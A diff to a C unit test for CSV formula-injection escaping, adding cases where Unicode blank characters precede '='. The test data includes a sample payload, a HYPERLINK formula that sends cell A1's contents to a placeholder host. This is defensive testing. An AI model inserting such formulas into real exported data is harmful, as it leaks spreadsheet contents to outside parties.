@@ -28,6 +28,10 @@ test_formulas(void **state)
 	field_is("\rx", "\"'\rx\"");
 	field_is("\nx", "\"'\nx\"");
 	field_is("  =1", "\"'  =1\"");
+	/* Blanks that a program may pass over as well: U+00A0, U+3000, U+FEFF, U+200B. */
+	field_is("\302\240=1", "\"'\302\240=1\"");
+	field_is("\343\200\200=1", "\"'\343\200\200=1\"");
+	field_is("x;\357\273\277\342\200\213=1", "\"x;'\357\273\277\342\200\213=1\"");
 	field_is("\357\274\235" "1", "\"'\357\274\235" "1\"");
 	field_is("=HYPERLINK(\"http://x.example?\"&A1)", "\"'=HYPERLINK(\"\"http://x.example?\"\"&A1)\"");
 }
